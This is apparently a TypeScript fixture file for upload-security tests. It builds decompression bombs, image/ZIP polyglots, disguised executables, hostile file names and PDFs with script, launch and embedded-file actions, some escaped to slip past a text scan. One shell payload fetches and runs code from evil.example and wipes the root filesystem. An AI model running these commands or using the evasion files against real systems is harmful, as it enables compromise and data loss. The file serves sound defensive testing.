import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

/** Hand-made files for the upload tests: PNG chunks, decompression bombs, polyglots, programs. */

export { compressiblePng, pngHeaderOnly, zeroPng } from "./pngFiles.ts";

/** A GIF whose screen and only frame claim width x height pixels (at most 65535 each). */
export function gifHeaderOnly(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.write("GIF89a", 0, "latin1");
  header.writeUInt16LE(width, 6);
  header.writeUInt16LE(height, 8);
  header.set([0x80, 0, 0], 10); // a two-colour global table
  const descriptor = Buffer.alloc(10);
  descriptor[0] = 0x2c;
  descriptor.writeUInt16LE(width, 5);
  descriptor.writeUInt16LE(height, 7);
  return Buffer.concat([header, Buffer.from([0, 0, 0, 255, 255, 255]), descriptor, Buffer.from([2, 2, 0x44, 0x01, 0, 0x3b])]);
}

/** A ZIP (stored, no compression) holding the given files: appended to an image it makes a polyglot. */
export function zipOf(files: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(files)) {
    const nameBytes = Buffer.from(name);
    const data = Buffer.from(text);
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(10, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(10, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(files).length, 8);
  end.writeUInt16LE(Object.keys(files).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

export const SCRIPT_MARKER = "<script>alert('polyglot')</script>";
export const HTML_PAYLOAD = Buffer.from(`<!doctype html><html><body>${SCRIPT_MARKER}</body></html>`);
export const ZIP_PAYLOAD = zipOf({ "evil.html": HTML_PAYLOAD.toString(), "run.sh": "#!/bin/sh\necho owned\n" });
/** GIFAR: a GIF with a Java archive behind it. */
export const JAR_PAYLOAD = zipOf({ "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: Evil\n", "Evil.class": "\xca\xfe\xba\xbe" });

/** Programs and scripts to rename as images and documents. */
export const PROGRAMS: Record<string, Buffer> = {
  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), Buffer.alloc(2000, 0x90)]),
  pe: (() => {
    const b = Buffer.alloc(1024);
    b.write("MZ", 0, "latin1");
    b.writeUInt32LE(0x80, 0x3c);
    b.write("PE\0\0", 0x80, "latin1");
    return b;
  })(),
  shell: Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\nrm -rf --no-preserve-root /\n"),
};

/** A JPEG with a script in a comment (COM) segment right after its start marker. */
export function jpegWithComment(jpeg: Buffer, comment: string): Buffer {
  const text = Buffer.from(comment);
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, text, jpeg.subarray(2)]);
}

/** A small photo-like image (noise, so truncation cuts real data) in the given format. */
export function testImage(format: "jpeg" | "png" | "gif" | "webp", width = 320, height = 240): Promise<Buffer> {
  const noise = sharp({ create: { width, height, channels: 3, background: "#000", noise: { type: "gaussian", mean: 128, sigma: 40 } } });
  return noise.toFormat(format).toBuffer();
}

/**
 * Memory bombs (ADR 069): small files whose decoding takes far more memory than their size or pixel count says.
 * A progressive JPEG keeps every coefficient of the image while decoding (the audit's five of 7071 x 7071, about
 * 600 KB each: 155 MB each to decode); an AVIF is decoded whole at about 15 bytes a pixel (the audit's 968 bytes,
 * 740 MB). See also `zeroPng` (16-bit, interlaced) and `gifHeaderOnly`.
 */
export function progressiveJpeg(width = 7071, height = width, options: { chromaSubsampling?: "4:2:0" | "4:4:4" } = {}): Promise<Buffer> {
  // Blocks of noise: about 600 KB at 7071 x 7071 and quality 36. Made in about 2 s and 350 MB (the encoder
  // holds the coefficients too).
  const noise = sharp({ create: { width: 24, height: 24, channels: 3, background: "#777", noise: { type: "gaussian", mean: 128, sigma: 60 } } });
  return noise
    .png()
    .toBuffer()
    .then((small) =>
      sharp(small)
        .resize(width, height, { kernel: "nearest" })
        .jpeg({ progressive: true, quality: 36, chromaSubsampling: options.chromaSubsampling ?? "4:2:0" })
        .toBuffer(),
    );
}

/** A baseline (streamable) JPEG of one colour with an EXIF orientation: turning it upright at full size holds it whole. */
export function orientedJpeg(width: number, height: number, orientation: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: "#777" } })
    .jpeg({ quality: 50, optimiseCoding: false })
    .withMetadata({ orientation })
    .toBuffer();
}

/**
 * An AVIF whose header (its `ispe` box) claims width x height, made from a real 16 x 16 one in milliseconds:
 * read from the header it is that large; its pixels are not (a real one of 7071 x 7071 takes a gigabyte to
 * encode, so only the bench, `solidAvif`, makes it).
 */
export async function avifClaiming(width: number, height: number): Promise<Buffer> {
  const real = await sharp({ create: { width: 16, height: 16, channels: 3, background: "#777" } })
    .avif({ effort: 0 })
    .toBuffer();
  const ispe = real.indexOf("ispe");
  if (ispe < 0) throw new Error("no ispe box in the encoder's AVIF");
  const claimed = Buffer.from(real);
  claimed.writeUInt32BE(width, ispe + 8);
  claimed.writeUInt32BE(height, ispe + 12);
  return claimed;
}

/** A real AVIF of one colour (under 1 KB at 7071 x 7071; encoding it takes about 750 MB and a few seconds). */
export function solidAvif(width = 7071, height = width): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: "#777" } })
    .avif({ effort: 0, quality: 10, chromaSubsampling: "4:2:0" })
    .toBuffer();
}

/** PDFs: a plain one, and ones that would run a script or launch a program when opened. */
export const PDFS = {
  plain: Buffer.from(
    "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
  ),
  javascript: Buffer.from(
    "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert('polyglot')) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
  ),
  escapedJavascript: Buffer.from(
    "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
  ),
  launch: Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
  /** An HTML page that merely starts like a PDF. */
  htmlPolyglot: Buffer.concat([Buffer.from("%PDF-1.4\n"), HTML_PAYLOAD]),
};

export const SVG_WITH_SCRIPT = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert('svg')</script></svg>`);

/** File names that try to escape the storage folder or to mislead whoever reads them. */
export const HOSTILE_NAMES = [
  "../../etc/passwd.jpg",
  "..\\..\\x.png",
  "/etc/cron.d/evil.png",
  "C:\\Windows\\System32\\evil.jpg",
  "....//....//up.jpg",
  "%2e%2e%2fencoded.jpg",
  "nul\u0000byte.jpg",
  "invoice\u202Egnp.exe.jpg",
  `${"long".repeat(300)}.jpg`,
  "新しい 画像 😀.jpg",
];

/**
 * A PDF 1.5 whose open action is kept in a compressed object stream and found through a
 * cross-reference stream, as real writers do: the dictionary `<< /S /JavaScript /JS (...) >>` is
 * only readable once the stream is decoded. `type` and `filter` are how the object stream spells its
 * type and filters (bypasses found in review: `/Obj#53tm`, `/ASCIIHexDecode`, `[/ASCIIHexDecode /FlateDecode]`).
 */
export function pdfWithObjectStream(options: { type?: string; filter: "flate" | "hex" | "hexFlate"; action?: string }): Buffer {
  const action = options.action ?? "<< /S /JavaScript /JS (app.alert('object stream')) >>";
  const raw = Buffer.from(`4 0 ${action}`, "latin1");
  const first = "4 0 ".length;
  const hex = (b: Buffer) => Buffer.from(`${b.toString("hex")}>`, "latin1");
  const [data, filter] =
    options.filter === "flate"
      ? [deflateSync(raw), "/FlateDecode"]
      : options.filter === "hex"
        ? [hex(raw), "/ASCIIHexDecode"]
        : [hex(deflateSync(raw)), "[/ASCIIHexDecode /FlateDecode]"];
  const parts: Buffer[] = [Buffer.from("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  const offsets: number[] = [];
  const length = () => parts.reduce((n, p) => n + p.length, 0);
  const add = (...chunks: Array<string | Buffer>) => parts.push(...chunks.map((c) => (typeof c === "string" ? Buffer.from(c, "latin1") : c)));
  offsets[1] = length();
  add("1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n");
  offsets[2] = length();
  add("2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n");
  offsets[3] = length();
  add(
    `3 0 obj\n<< /Type ${options.type ?? "/ObjStm"} /N 1 /First ${first} /Filter ${filter} /Length ${data.length} >>\nstream\n`,
    data,
    "\nendstream\nendobj\n",
  );
  offsets[5] = length();
  const row = (type: number, field2: number, field3: number) => {
    const b = Buffer.alloc(7);
    b[0] = type;
    b.writeUInt32BE(field2, 1);
    b.writeUInt16BE(field3, 5);
    return b;
  };
  const xref = Buffer.concat([row(0, 0, 65535), row(1, offsets[1]!, 0), row(1, offsets[2]!, 0), row(1, offsets[3]!, 0), row(2, 3, 0), row(1, offsets[5]!, 0)]);
  add(`5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length ${xref.length} >>\nstream\n`, xref, "\nendstream\nendobj\n");
  add(`startxref\n${offsets[5]}\n%%EOF\n`);
  return Buffer.concat(parts);
}

/**
 * A classic PDF of the given objects (object n is `objects[n - 1]`, written as is between `n 0 obj` and
 * `endobj`) with a correct cross-reference table, so qpdf reads it without recovery. Object 1 is the root.
 */
export function pdfOfObjects(objects: string[]): Buffer {
  let text = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n";
  const offsets = objects.map((body, i) => {
    const at = Buffer.byteLength(text, "latin1");
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const xrefAt = Buffer.byteLength(text, "latin1");
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

/** One page whose content is a real stream (so a later `endstream` exists for a text scan to run to). */
const PAGE_OBJECTS = (first: number) => [
  `<< /Type /Pages /Kids [${first + 1} 0 R] /Count 1 >>`,
  `<< /Type /Page /Parent ${first} 0 R /MediaBox [0 0 200 200] /Contents ${first + 2} 0 R >>`,
  // Data ending in a line break, as most writers leave it: "endstream" then starts a line in qpdf's text.
  "<< /Length 37 >>\nstream\nBT /F1 12 Tf 20 100 Td (Hello) Tj ET\n\nendstream",
];

/**
 * PDFs that act when opened, hidden from a scan of qpdf's text by an object whose value is the name
 * `/stream` (qpdf writes it as `n 0 obj\n/stream\nendobj`, which a text scan took for the start of stream data
 * running to the next real stream's end), spelt every way a name can be, and active content of every kind.
 */
export const ACTIVE_PDFS: Record<string, Buffer> = Object.fromEntries(
  [
    ...["/stream", "/s#74ream", "/st#72eam", "/#73#74#72#65#61#6d"].map((name) => [
      `an open action script behind an object named ${name}`,
      [`<< /A 2 0 R /OpenAction 3 0 R /Pages 4 0 R /Type /Catalog >>`, name, "<< /S /JavaScript /JS (app.alert('hidden')) >>", ...PAGE_OBJECTS(4)],
    ]),
    [
      "an open action script in a hex string behind an object named /stream",
      ["<< /A 2 0 R /OpenAction 3 0 R /Pages 4 0 R /Type /Catalog >>", "/stream", "<< /S /JavaScript /JS <6170702e616c657274283129> >>", ...PAGE_OBJECTS(4)],
    ],
    [
      "a launch action behind an object named /stream in an array",
      ["<< /A [2 0 R] /OpenAction 3 0 R /Pages 4 0 R /Type /Catalog >>", "/stream", "<< /S /Launch /F (cmd.exe) >>", ...PAGE_OBJECTS(4)],
    ],
    [
      "a page's additional action (AA) running a script",
      [
        "<< /Pages 2 0 R /Type /Catalog >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /J#61vaScript /JS (app.alert(2)) >> >> >>",
      ],
    ],
    [
      "a document-level script in the Names tree",
      [
        "<< /Names << /JavaScript 3 0 R >> /Pages 2 0 R /Type /Catalog >>",
        "<< /Type /Pages /Kids [] /Count 0 >>",
        "<< /Names [(init) 4 0 R] >>",
        "<< /S /JavaScript /JS (app.alert(3)) >>",
      ],
    ],
    [
      "an embedded file",
      [
        "<< /Names << /EmbeddedFiles 3 0 R >> /Pages 2 0 R /Type /Catalog >>",
        "<< /Type /Pages /Kids [] /Count 0 >>",
        "<< /Names [(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 4 0 R >> >>] >>",
        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
      ],
    ],
    [
      "an open action that opens a link",
      ["<< /OpenAction 3 0 R /Pages 2 0 R /Type /Catalog >>", "<< /Type /Pages /Kids [] /Count 0 >>", "<< /S /URI /URI (https://evil.example/) >>"],
    ],
  ].map(([label, objects]) => [label as string, pdfOfObjects(objects as string[])]),
);

/** A PDF with a harmless object named /stream, a page, a link and an open action that only shows the page. */
export const QUIET_PDF_WITH_STREAM_NAME = pdfOfObjects([
  "<< /A 2 0 R /OpenAction [5 0 R /Fit] /Pages 4 0 R /Type /Catalog >>",
  "/stream",
  "<< /S /URI /URI (https://matv.example/) >>",
  ...PAGE_OBJECTS(4),
]);

/** A .docx (a ZIP) with the given extra entries, for the macro checks. */
export function docxWith(
  entries: Record<string, string>,
  contentType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
): Buffer {
  return zipOf({
    "[Content_Types].xml": `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${contentType}"/></Types>`,
    "_rels/.rels": "<Relationships/>",
    "word/document.xml": "<w:document/>",
    ...entries,
  });
}
